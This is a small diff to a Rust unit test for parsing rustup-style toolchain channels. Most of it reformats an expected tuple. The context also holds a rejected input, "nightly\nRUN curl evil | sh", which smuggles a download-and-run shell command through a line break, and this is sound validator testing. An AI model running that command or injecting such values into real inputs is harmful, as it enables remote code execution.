@@ -68,7 +68,11 @@ fn channels_follow_rustups_grammar() {
             .parse::<Channel>()
             .unwrap()
             .parts(),
-        ("nightly", Some("2026-01-01"), Some("x86_64-unknown-linux-gnu"))
+        (
+            "nightly",
+            Some("2026-01-01"),
+            Some("x86_64-unknown-linux-gnu")
+        )
     );
     for (bad, said) in [
         ("nightly\nRUN curl evil | sh", "line break"),
